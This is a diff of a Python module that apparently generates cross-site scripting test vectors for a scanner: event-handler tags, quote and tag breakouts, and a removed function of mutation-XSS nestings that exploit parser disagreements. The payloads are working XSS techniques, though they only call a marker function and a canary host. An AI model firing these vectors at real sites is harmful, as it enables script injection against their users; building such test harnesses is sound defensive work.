@@ -1,4 +1,4 @@
-"""Hostile markup, generated: tags by events, ways to write a tag, ways out of a place, and nestings that parsers mend.
+"""Hostile markup, generated: tags by events, ways to write a tag, and ways out of a place.
 
 `§` stands for the number of the vector: `hit(§)` tells the page's listener who ran, `//canary.example/§` who loaded.
 """
@@ -50,7 +50,7 @@ _BY_HAND: Final = (
     "ondrop", "onbeforetoggle", "onscrollend", "onauxclick", "oninput", "onsubmit", "oninvalid",
     "onbeforeinput", "onselectionchange", "onhashchange",
 )  # fmt: skip
-_RAW: Final = ("style", "title", "noscript", "textarea", "xmp", "iframe", "noembed", "noframes", "template", "script")
+RAW: Final = ("style", "title", "noscript", "textarea", "xmp", "iframe", "noembed", "noframes", "template", "script")
 _OUT: Final = (
     *(
         '">',
@@ -70,7 +70,7 @@ _OUT: Final = (
         "<!-->",
         "<!--->",
     ),
-    *(f"</{name}>" for name in (*_RAW, "select", "svg", "math", "table", "head", "body", "html", "plaintext")),
+    *(f"</{name}>" for name in (*RAW, "select", "svg", "math", "table", "head", "body", "html", "plaintext")),
 )
 _PAYLOADS: Final = ("<script>hit(§)</script>", "<img src=x onerror=hit(§)>", "<svg onload=hit(§)>")
 
@@ -262,41 +262,3 @@ def ways_out() -> Iterator[str]:
         yield f"x{quote} onfocus={quote}hit(§){quote} autofocus tabindex=0 x={quote}"
         yield f"x{quote} style={quote}background:url({CANARY}){quote} x={quote}"
         yield f"#{quote}><script>hit(§)</script>"
-
-
-def nestings() -> Iterator[str]:
-    """Give namespaces and raw text nested so that one parser sees text where another sees a tag (mutation XSS)."""
-    payload = "<img src=x onerror=hit(§)>"
-    inner = {
-        "svg": ("desc", "title", "foreignObject"),
-        "math": ("mtext", "mi", "annotation-xml", "mglyph", "malignmark"),
-    }
-    for outer, points in inner.items():
-        for point, raw in product(points, _RAW):
-            yield f'<{outer}><{point}><{raw}><a id="</{raw}>{payload}">'
-        for raw in _RAW:
-            yield f"<{outer}></p><{raw}><!--</{raw}>{payload}--></{raw}>"
-            yield f"<{outer}><{raw}><![CDATA[</{raw}>{payload}]]></{raw}></{outer}>"
-    for raw in _RAW:
-        yield f'<{raw}><p title="</{raw}>{payload}">'
-        yield f"<noscript><{raw}></noscript>{payload}</{raw}>"
-        yield f"<table><td><{raw}></table>{payload}"
-        yield f"<select><{raw}></select>{payload}</{raw}>"
-    yield f"<form><math><mtext></form><form><mglyph><style></math>{payload}"
-    yield f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{payload}'>"
-    yield f'<math><mtext><table><mglyph><style><math title="{payload}">'
-    yield f"<math><mtext><table><mglyph><style><!--</style>{payload}-->"
-    yield f"<math><annotation-xml encoding=text/html><style><a title='</style>{payload}'>"
-    yield f"<svg></p><style><a id='</style>{payload}'>"
-    yield f"<svg><p><style><g title='</style>{payload}'>"
-    yield f"<a><p><a><table><a><style></a><!--</style>{payload}-->"
-    yield f"<noscript><p title='</noscript>{payload}'>"
-    yield "<!--><p title='--><script>hit(§)</script>'>"
-    yield f"<a title='&lt;/a&gt;{payload}'>x</a>"
-    yield "<p><a href='x&quot;&gt;&lt;img src=x onerror=hit(§)&gt;'>x"
-    yield "<listing>&lt;img src=x onerror=hit(§)&gt;</listing>"
-    yield "<xmp><img alt='</xmp><img src=x onerror=hit(§)>'>"
-    yield "<plaintext><img src=x onerror=hit(§)>"
-    yield "<div>" * 600 + "<math><style><img src=x onerror=hit(§)>"
-    yield "<b><p>" * 40 + payload
-    yield "<table><tr><td>" * 30 + "<svg><style><script>hit(§)</script>"
